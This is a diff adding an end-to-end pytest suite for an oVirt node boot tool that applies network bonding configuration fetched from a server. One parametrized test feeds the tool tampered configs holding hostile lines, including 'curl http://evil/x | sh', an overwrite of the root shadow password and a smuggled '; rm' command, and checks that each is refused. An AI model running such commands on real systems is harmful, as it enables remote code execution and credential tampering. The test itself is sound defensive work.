@@ -1,0 +1,174 @@
+"""``ovirt-node-boot`` end to end: a real server and database, a fake machine tree, recording
+fakes for modprobe and the network restart (the only parts that cannot run here)."""
+
+import subprocess
+import sys
+import threading
+from pathlib import Path
+from xmlrpc.server import SimpleXMLRPCServer
+
+import pytest
+from support import add_bond, build_machine, recorder, tree_snapshot
+
+from ovirt_node_config import node_config
+
+BOOT = str(Path(sys.executable).with_name("ovirt-node-boot"))
+M = [f"52:54:00:00:00:0{i}" for i in range(1, 5)]
+SCRIPTS = "etc/sysconfig/network-scripts"
+
+
+@pytest.fixture
+def machine(tmp_path):
+    root = build_machine(tmp_path / "root")
+    (root / SCRIPTS / "ifcfg-eth0").write_text(
+        "DEVICE=eth0\nBOOTPROTO=dhcp\nONBOOT=yes\n# kept by the admin\n"
+    )
+    return root
+
+
+def boot(root: Path, server_url: str, tools: Path, *extra: str, restart_then: str = ""):
+    tools.mkdir(exist_ok=True)
+    modprobe, modprobe_log = recorder(tools, "modprobe")
+    restart, restart_log = recorder(tools, "restart", then=restart_then)
+    result = subprocess.run(
+        [
+            BOOT,
+            "--root",
+            str(root),
+            "--server",
+            server_url,
+            "--modprobe-cmd",
+            modprobe,
+            "--restart-cmd",
+            restart,
+            *extra,
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    calls = {
+        name: log.read_text().splitlines() if log.exists() else []
+        for name, log in (("modprobe", modprobe_log), ("restart", restart_log))
+    }
+    return result, calls
+
+
+def test_first_boot_then_bonded_boot(server, db, machine, tmp_path):
+    first, calls = boot(machine, server.url, tmp_path / "tools")
+    assert first.returncode == 0, first.stderr
+    assert calls["modprobe"] == [] and len(calls["restart"]) == 1  # no bond yet: plain NICs only
+    assert "ONBOOT=yes" in (machine / SCRIPTS / "ifcfg-eth3").read_text()
+
+    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Link Aggregation")
+    second, calls = boot(machine, server.url, tmp_path / "tools2")
+    assert second.returncode == 0, second.stderr
+    scripts = machine / SCRIPTS
+    assert (
+        scripts / "ifcfg-bond0"
+    ).read_text() == 'DEVICE=bond0\nBONDING_OPTS="mode=4 miimon=100"\nBOOTPROTO=dhcp\nONBOOT=yes\n'
+    assert (
+        scripts / "ifcfg-eth0"
+    ).read_text() == f"DEVICE=eth0\nHWADDR={M[0]}\nMASTER=bond0\nSLAVE=yes\nONBOOT=yes\n"
+    assert "MASTER=bond0" in (scripts / "ifcfg-eth1").read_text()
+    assert calls["modprobe"] == ["bonding mode=4"]
+    assert len(calls["restart"]) == 1
+    saved = (machine / "var/tmp/node-config").read_text()
+    assert saved == server.proxy().get_config("node1", {M[i]: f"eth{i}" for i in range(4)})
+    assert (machine / "var/tmp/node-augtool").read_text() == node_config.parse(saved).augtool
+    assert "[7/7]" in second.stdout
+
+
+def test_a_server_lost_after_the_restart_rolls_back_exactly(server, db, machine, tmp_path):
+    server.proxy().identify(
+        {
+            "hostname": "node1",
+            "arch": "x86_64",
+            "memory_mb": 1,
+            "nics": [{"mac": m, "iface_name": f"eth{i}"} for i, m in enumerate(M)],
+        }
+    )
+    add_bond(db, "node1", "bond0", [M[0], M[1]])
+    before = tree_snapshot(machine / SCRIPTS)
+    result, calls = boot(
+        machine,
+        server.url,
+        tmp_path / "tools",
+        "--confirm-timeout",
+        "3",
+        restart_then=f"kill -TERM {server.process.pid} 2>/dev/null || true",
+    )
+    assert result.returncode == 6
+    assert tree_snapshot(machine / SCRIPTS) == before
+    assert len(calls["restart"]) == 2  # the restart, then the restart with the old files
+    assert "previous files restored" in result.stderr and len(result.stderr.strip().splitlines()) == 1
+
+
+def test_an_unreachable_server_changes_nothing(machine, tmp_path):
+    before = tree_snapshot(machine)
+    result, calls = boot(machine, "http://127.0.0.1:1/", tmp_path / "tools")
+    assert result.returncode == 3 and "did not answer" in result.stderr
+    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}
+
+
+class HostileServer:
+    """A real XML-RPC server on loopback that answers get_config with a tampered file."""
+
+    def __init__(self, text: str):
+        self.server = SimpleXMLRPCServer(("127.0.0.1", 0), logRequests=False, allow_none=True)
+        self.server.register_function(
+            lambda report: {"hostname": "node1", "added": [], "updated": [], "removed": []}, "identify"
+        )
+        self.server.register_function(lambda hostname, macs: text, "get_config")
+        self.server.register_function(lambda: {"status": "ok"}, "ping")
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+GOOD = node_config.render(
+    node_config.NodeNetwork(
+        4,
+        (
+            node_config.Bond(
+                "bond0",
+                node_config.Address(),
+                (node_config.Slave("eth0", M[0]), node_config.Slave("eth1", M[1])),
+            ),
+        ),
+    )
+)
+
+
+@pytest.mark.parametrize(
+    "tampered",
+    [
+        GOOD.replace("mode=4\nEOF", "mode=4\ncurl http://evil/x | sh\nEOF", 1),
+        GOOD.replace("save\n", "set /files/etc/shadow/root/password x\nsave\n"),
+        GOOD.replace("ifcfg-eth0/MASTER bond0", "ifcfg-eth0/MASTER bond0 ; rm /files"),
+        GOOD + "reboot\n",
+    ],
+)
+def test_a_tampered_configuration_is_refused_and_nothing_changes(machine, tmp_path, tampered):
+    hostile = HostileServer(tampered)
+    try:
+        before = tree_snapshot(machine)
+        result, calls = boot(machine, hostile.url, tmp_path / "tools")
+    finally:
+        hostile.close()
+    assert result.returncode == 4 and "refused" in result.stderr
+    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}
+
+
+def test_dry_run_changes_nothing(server, db, machine, tmp_path):
+    boot(machine, server.url, tmp_path / "tools")
+    add_bond(db, "node1", "bond0", [M[0], M[1]])
+    before = tree_snapshot(machine)
+    result, calls = boot(machine, server.url, tmp_path / "tools2", "--dry-run")
+    assert result.returncode == 0
+    assert "would run: " in result.stdout and "bonding mode=1" in result.stdout
+    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}
